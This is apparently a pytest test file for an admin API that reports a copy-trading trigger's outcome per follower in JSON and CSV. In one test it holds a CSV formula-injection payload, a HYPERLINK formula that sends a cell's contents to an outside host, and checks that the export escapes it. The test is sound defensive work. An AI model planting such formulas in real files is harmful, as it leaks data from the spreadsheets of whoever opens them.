"""What became of a trigger, follower by follower, in JSON and in CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest

from functions.admin_strategy.app import lambda_handler
from shared.clock import to_iso
from shared.models.execution import Execution
from shared.models.trigger import FanoutState, Trigger
from shared.trading.execution import CloseReason, DenialReason, ExecutionState, Reason
from shared.trading.sides import Side, TriggerAction
from tests.unit.admin_requests import Answer, fault, pages, sample, send
from tests.unit.records import (
    STARTED_AT,
    STRATEGY_ID,
    USER_ID,
    a_follower,
    a_trigger,
    an_execution,
    an_exit,
    id_of,
)

EVENT, CSV_EVENT = "admin_strategy/show_timeline", "admin_strategy/show_timeline_csv"
TRIGGER_ID = "48ea8a32-2c0d-4b1e-9e5f-3c2f6a0f7d10"

pytestmark = pytest.mark.usefixtures("admin_api")


def at(milliseconds: int) -> Any:
    return STARTED_AT + timedelta(milliseconds=milliseconds)


def the_trigger(**values: Any) -> Trigger:
    trigger = a_trigger("any", seq=1, **values)
    trigger.delete()
    trigger.id = TRIGGER_ID
    trigger.save()
    return trigger


def stopped_out(trigger: Trigger, **values: Any) -> Execution:
    """Return an execution that went the whole way, bought 5 above the trigger's 21600."""
    follower = a_follower("stopped out")
    usual = {
        "key_name": "Default",
        "amount": Decimal("0.7"),
        "filled_amount": Decimal("0.673"),
        "entry_price": Decimal("21605.4"),
        "stop_moved_to": Decimal("21627.1"),
        "entry_filled_at": at(412),
        "protected_at": at(530),
        "naked_ms": 118,
        "exit_price": Decimal(21300),
        "fee": Decimal("11.55"),
        "profit": Decimal("-217.0842"),
        "close_reason": CloseReason.STOP.value,
        "state_times": {
            "QUEUED": to_iso(at(40)),
            "ENTERING": to_iso(at(120)),
            "UNPROTECTED": to_iso(at(450)),
            "PROTECTED": to_iso(at(530)),
            "CLOSED": to_iso(at(60_000)),
        },
    }
    return an_execution(trigger, follower, state=ExecutionState.CLOSED, **(usual | values))


def denied(trigger: Trigger, **values: Any) -> Execution:
    times = {"QUEUED": to_iso(at(40)), "DENIED": to_iso(at(95))}
    usual = {"reason": DenialReason.PRICE_MOVED.value, "detail": "1.2 % away", "state_times": times}
    return an_execution(trigger, a_follower("denied"), state=ExecutionState.DENIED, **(usual | values))


def timeline(event: str = EVENT, **query: str) -> Answer:
    answer = send(lambda_handler, sample(event, query=query or None))
    assert answer.status == 200, answer.text
    return answer


def rows_of(answer: Answer) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.text, newline=""), strict=True))


def item_of(execution: Execution) -> Any:
    (item,) = (one for one in timeline().body["items"] if one["id"] == execution.id)
    return item


def test_the_trigger_and_each_follower_are_shown() -> None:
    trigger = the_trigger(fired_at=at(-900), reached=1, left_out=1)
    closed, refused = stopped_out(trigger), denied(trigger)
    body = timeline().body
    assert set(body) == {"Trigger", "items"}
    assert body["Trigger"] == {
        "id": TRIGGER_ID,
        "strategyId": STRATEGY_ID,
        "strategySource": "TRADINGVIEW",
        "symbol": "BTC/USDT",
        "action": "OPEN",
        "tradeSide": "BUY",
        "price": 21600,
        "keep": None,
        "positionSize": None,
        "firedAt": "2022-09-09T01:57:35.404Z",
        "createdAt": "2022-09-09T01:57:36.304Z",
        "active": False,
        "fanoutState": "DONE",
        "reached": 1,
        "leftOut": 1,
    }
    unreached = {state.value: None for state in ExecutionState}
    assert {item["id"]: item for item in body["items"]} == {
        closed.id: {
            "id": closed.id,
            "strategyFollowId": id_of("stopped out"),
            "userId": USER_ID,
            "ExchangeKey": {"id": id_of("key of stopped out"), "name": "Default"},
            "status": "CLOSED",
            "reason": None,
            "detail": None,
            "closeReason": "STOP",
            "amount": Decimal("0.673"),
            "amountLeft": None,
            "entryPrice": Decimal("21605.4"),
            "stopMovedTo": Decimal("21627.1"),
            "slippage": Decimal("5.4"),
            "slippagePercentage": Decimal("0.025"),
            "slippageCost": Decimal("3.6342"),
            "fee": Decimal("11.55"),
            "profit": Decimal("-217.0842"),
            "msToFilled": 412,
            "msToProtected": 530,
            "nakedMs": 118,
            "stateTimes": unreached
            | {
                "QUEUED": "2022-09-09T01:57:36.344Z",
                "ENTERING": "2022-09-09T01:57:36.424Z",
                "UNPROTECTED": "2022-09-09T01:57:36.754Z",
                "PROTECTED": "2022-09-09T01:57:36.834Z",
                "CLOSED": "2022-09-09T01:58:36.304Z",
            },
        },
        refused.id: {
            "id": refused.id,
            "strategyFollowId": id_of("denied"),
            "userId": USER_ID,
            "ExchangeKey": {"id": id_of("key of denied"), "name": ""},
            "status": "DENIED",
            "reason": "PRICE_MOVED",
            "detail": "1.2 % away",
            "closeReason": None,
            "amount": None,
            "amountLeft": None,
            "entryPrice": None,
            "stopMovedTo": None,
            "slippage": None,
            "slippagePercentage": None,
            "slippageCost": None,
            "fee": None,
            "profit": None,
            "msToFilled": None,
            "msToProtected": None,
            "nakedMs": None,
            "stateTimes": unreached | {"QUEUED": "2022-09-09T01:57:36.344Z", "DENIED": "2022-09-09T01:57:36.399Z"},
        },
    }


def test_a_seller_who_sold_higher_slipped_to_the_better() -> None:
    item = item_of(stopped_out(the_trigger(side=Side.SELL)))
    assert (item["slippage"], item["slippagePercentage"], item["slippageCost"]) == (
        Decimal("-5.4"),
        Decimal("-0.025"),
        Decimal("-3.6342"),
    )


def test_a_fill_without_a_recorded_time_counts_from_the_state_after_it() -> None:
    assert item_of(stopped_out(the_trigger(), entry_filled_at=None))["msToFilled"] == 450


def test_the_planned_amount_is_shown_until_the_fill_is_known() -> None:
    trigger = the_trigger()
    times = {"QUEUED": to_iso(at(40)), "ENTERING": to_iso(at(120))}
    values: dict[str, Any] = {"amount": Decimal("0.7"), "state_times": times}
    entering = an_execution(trigger, a_follower("entering"), state=ExecutionState.ENTERING, **values)
    item = item_of(entering)
    assert (item["amount"], item["entryPrice"], item["slippage"], item["msToFilled"]) == (
        Decimal("0.7"),
        None,
        None,
        None,
    )


def test_a_trigger_before_its_fan_out_has_no_followers() -> None:
    the_trigger(active=True, fanout_state=FanoutState.PENDING, pending="PENDING")
    body = timeline().body
    assert body["items"] == []
    shown = body["Trigger"]
    assert (shown["active"], shown["fanoutState"]) == (True, "PENDING")
    assert (shown["firedAt"], shown["reached"], shown["leftOut"]) == (None, None, None)
    assert rows_of(timeline(CSV_EVENT)) == []


def test_csv_has_the_same_values_in_a_row_for_each_follower() -> None:
    trigger = the_trigger(fired_at=at(-900))
    stopped_out(trigger)
    denied(trigger)
    answer = timeline(CSV_EVENT)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="timeline-{TRIGGER_ID}.csv"'
    assert "x-next-token" not in answer.headers
    assert answer.text.count("\r\n") == 3
    body = timeline().body

    def flat(value: Any, path: str = "") -> dict[str, str]:
        if isinstance(value, dict):
            return {key: cell for name, one in value.items() for key, cell in flat(one, f"{path}.{name}").items()}
        return {path[1:]: "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)}

    assert rows_of(answer) == [flat({"Trigger": body["Trigger"]} | item) for item in body["items"]]
    assert list(rows_of(answer)[0])[:3] == ["Trigger.id", "Trigger.strategyId", "Trigger.strategySource"]


def test_accept_may_request_csv_and_the_query_goes_before_it() -> None:
    stopped_out(the_trigger())
    event = sample(EVENT)
    event["headers"]["Accept"] = "text/csv"
    assert send(lambda_handler, event).text == timeline(CSV_EVENT).text
    assert send(lambda_handler, event | {"queryStringParameters": {"format": "json"}}).body == timeline().body


def test_a_name_that_is_a_formula_is_harmless_in_csv_and_itself_in_json() -> None:
    formula = '=HYPERLINK("http://example.com/?"&A1,"Default")'
    trigger = the_trigger()
    execution = stopped_out(trigger, key_name=formula)
    denied(trigger, detail="-2019: Margin is insufficient.")
    cells = {(row["ExchangeKey.name"], row["detail"]) for row in rows_of(timeline(CSV_EVENT))}
    assert cells == {(f"'{formula}", ""), ("", "'-2019: Margin is insufficient.")}
    assert item_of(execution)["ExchangeKey"]["name"] == formula
    # A loss is a number, and stays one.
    assert "-217.0842" in {row["profit"] for row in rows_of(timeline(CSV_EVENT))}


def with_followers(trigger: Trigger, count: int) -> set[str]:
    return {
        an_execution(trigger, a_follower(f"follower {number}"), state=ExecutionState.CLOSED).id
        for number in range(count)
    }


@pytest.mark.parametrize(("limit", "sizes"), [(7, [7, 7, 7, 2]), (22, [22, 1]), (23, [23]), (1000, [23])])
def test_every_follower_is_on_one_page_and_no_page_is_empty(limit: int, sizes: list[int]) -> None:
    expected = with_followers(the_trigger(), 23)
    with_followers(a_trigger("another", seq=2), 3)
    found = pages(lambda_handler, sample(EVENT), limit=limit)
    assert [len(page) for page in found] == sizes
    shown = [item["id"] for page in found for item in page]
    assert len(shown) == len(set(shown))
    assert set(shown) == expected


def test_a_hundred_are_shown_by_default() -> None:
    with_followers(the_trigger(), 101)
    body = timeline().body
    assert len(body["items"]) == 100
    assert len(timeline(nextToken=body["nextToken"]).body["items"]) == 1


def test_the_token_of_csv_is_a_header_and_is_valid_in_any_format() -> None:
    expected = with_followers(the_trigger(), 5)
    first = timeline(CSV_EVENT, limit="2")
    token = first.headers["x-next-token"]
    second = timeline(limit="2", nextToken=token)
    last = timeline(CSV_EVENT, limit="2", nextToken=second.body["nextToken"])
    assert "x-next-token" not in last.headers
    shown = [row["id"] for row in rows_of(first)] + [item["id"] for item in second.body["items"]]
    shown += [row["id"] for row in rows_of(last)]
    assert sorted(shown) == sorted(expected)


def test_the_token_of_another_trigger_is_a_fault() -> None:
    with_followers(the_trigger(), 2)
    other = a_trigger("another", seq=2)
    with_followers(other, 2)
    token = timeline(limit="1").body["nextToken"]
    event = sample(EVENT, path=(TRIGGER_ID, other.id), query={"nextToken": token})
    answer = send(lambda_handler, event)
    assert (answer.status, answer.body) == (
        422,
        {"errors": [fault("must be nextToken of this list", "nextToken", "query", value=token)]},
    )


def test_every_fault_of_the_query_is_named_in_json() -> None:
    the_trigger()
    answer = send(lambda_handler, sample(CSV_EVENT, query={"format": "xlsx", "limit": "0", "nextToken": "x"}))
    assert answer.status == 422
    assert answer.body == {
        "errors": [
            fault("must be json or csv", "format", "query", value="xlsx"),
            fault("must be integer from 1 to 1000", "limit", "query", value="0"),
            fault("must be nextToken of this list", "nextToken", "query", value="x"),
        ]
    }


@pytest.mark.parametrize("trigger_id", ["history", "1", TRIGGER_ID[:-1], id_of("nothing")])
def test_unknown_trigger_is_not_found_whatever_else_is_wrong(trigger_id: str) -> None:
    for query in (None, {"format": "xlsx"}, {"format": "csv"}):
        answer = send(lambda_handler, sample(EVENT, path=(TRIGGER_ID, trigger_id), query=query))
        assert (answer.status, answer.body) == (404, {"message": "route not found"})


def test_users_outside_the_group_get_no_data() -> None:
    for claims, status in (({"token_use": "access"}, 401), ({"cognito:groups": "users"}, 403)):
        event = sample(EVENT, query={"format": "xlsx"})
        event["requestContext"]["authorizer"]["claims"] |= claims
        assert send(lambda_handler, event).status == status


def test_exit_has_an_answer_for_each_follower_and_neither_side_nor_price() -> None:
    close = an_exit("close", seq=2)
    held = an_execution(
        close, a_follower("held"), state=ExecutionState.DONE, reason=Reason.APPLIED, detail=id_of("its position")
    )
    idle = an_execution(close, a_follower("idle"), state=ExecutionState.DONE, reason=Reason.NOTHING_TO_CLOSE)
    event = sample(EVENT, path=(TRIGGER_ID, close.id))
    shown = send(lambda_handler, event).body
    assert [shown["Trigger"][name] for name in ("action", "tradeSide", "price")] == ["CLOSE", None, None]
    assert {one["id"]: (one["status"], one["reason"], one["detail"]) for one in shown["items"]} == {
        held.id: ("DONE", "APPLIED", id_of("its position")),
        idle.id: ("DONE", "NOTHING_TO_CLOSE", None),
    }


def test_reduction_shows_what_it_asks_for_and_its_position_what_is_left() -> None:
    trigger = the_trigger()
    reduced = stopped_out(trigger, amount_left=Decimal("0.336"))
    assert item_of(reduced)["amountLeft"] == Decimal("0.336")
    asked = an_exit("part", seq=2, action=TriggerAction.REDUCE, keep_share=Decimal("0.5"), position_size=Decimal(3))
    shown = send(lambda_handler, sample(EVENT, path=(TRIGGER_ID, asked.id))).body["Trigger"]
    assert [shown[name] for name in ("action", "keep", "positionSize")] == ["REDUCE", 50, 3]
